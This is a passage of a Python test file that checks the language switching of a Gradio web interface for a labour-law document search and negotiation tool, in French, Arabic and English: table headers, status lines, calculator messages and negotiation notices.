        return dict(zip(map(id, switch.outputs), switch.fn(lang, clause, found["search_rows"], shown_results)))

    out = switched("ar")
    comparison = out[id(named[tr("comparison")])]
    assert comparison["label"] == tr("comparison", "ar") and comparison["value"]["headers"] == headers("comparison", "ar")
    assert any(row[3] == "✘ دون الحد الأدنى" for row in comparison["value"]["data"])
    search = out[id(named[tr("search_results")])]["value"]
    assert search["headers"] == ["المرجع", "المادة", "الصفحة", "الملف", "المقتطف"] and len(search["data"]) == len(found["search_rows"]) > 0
    assert out[id(named[tr("index_results")])]["value"] == {"headers": headers("result", "ar"), "data": [["a.md", "مفهرس", ""], ["b.pdf", "فشل", "PDF illisible"]]}
    documents = out[id(named[tr("documents")])]["value"]
    assert documents["headers"][2] == "النوع" and "ma_code_travail_fr_2011.md" in {row[0] for row in documents["data"]}
    assert out[id(named[tr("project_table")])]["value"]["headers"] == headers("project", "ar")
    assert out[id(status_line)].startswith("**النصوص المفهرسة**")
    filters = [u for u in out.values() if isinstance(u, dict) and u.get("label") == tr("source", "ar")]  # chat's and search box's
    assert len(filters) == 2 and all(u["choices"][0] == ("كل النصوص", "") for u in filters)
    back = switched("fr")  # French again: the rows alone, under the components' own French headers
    assert any(row[3] == "✘ sous le plancher" for row in back[id(named[tr("comparison")])]["value"])
    assert back[id(status_line)].startswith("**Textes indexés**")


def test_every_handler_that_takes_the_language_receives_it(engine, settings):
    from rag.web.layout import takes_lang

    demo = build_ui(engine, settings)
    given = [f for f in demo.fns.values() if takes_lang(f.fn)]
    names = {f.fn.__name__ for f in given}
    assert {"chat_submit", "index_uploads", "reindex_all", "draft_clause", "add_to_project", "export_docx", "search_corpus", "cancel_delete"} <= names
    for f in given:
        last = f.inputs[-1]
        assert isinstance(last, gr.State) and last.value == "fr", f.fn.__name__
    # the Négociation tab's tables follow the language State
    relabel = next(f for f in demo.fns.values() if f.fn.__name__ == "relabel")
    rounds, clauses, cost = relabel.fn("en", [[1, "2026-01-05", "ouverture", "amina", "proposée : 3"]], None, [])
    assert rounds == {"headers": ["Round", "Date", "Note", "Opened by", "Statuses"], "data": [[1, "2026-01-05", "ouverture", "amina", "proposée : 3"]]}
    assert clauses["headers"][4] == "Last author" and clauses["data"] == [] and cost["headers"][0] == "Demand"


def test_calculator_headings_and_missing_fields_in_the_interface_language(engine, settings):
    from rag.web.calculators import run

    blank = (None, None, None, None, None, "", "", "dimanche", "")
    assert run("seniority", *blank).startswith("⚠ indiquez")  # French: rag.calc's own words
    assert run("seniority", *blank, "ar") == "⚠ أدخل الأقدمية (بالسنوات)"
    assert run("delegates", *blank, "en") == "⚠ enter headcount (employees)"
    english = run("seniority", 7, None, None, None, None, "", "", "dimanche", "", "en")
    assert "**Arithmetic**" in english and "*Legal basis:" in english and "art. 350" in english and "Fondement" not in english
    demo = build_ui(engine, settings)
    calculate = next(f for f in demo.fns.values() if getattr(f.fn, "__name__", "") == "run")
    assert isinstance(calculate.inputs[-1], gr.State) and calculate.inputs[-1].value == "fr"


def test_negotiation_notices_in_the_interface_language(settings, tmp_path):
    from rag.db import open_database
    from rag.web.negotiation import NegotiationHandlers

    h = NegotiationHandlers(open_database(settings), settings, [], {})
    assert h.view(None, "amina", lang="en")["notice"] == "Choose a project."
    assert h.share(None, "", "amina", "ar")["notice"] == "⚠ اختر مشروعا أولا."
    assert h.import_counter(1, None, "amina", "en")["notice"].startswith("⚠ Choose the counter-proposal's file")
    assert h.cost(1, None, 3, "amina", "ar")["notice"] == tr("nego_grid_pick", "ar")
    assert h.projects("amina", "en")["notice"].startswith("No project")
    assert h.view(None, "amina")["notice"] == "Choisissez un projet."  # French by default
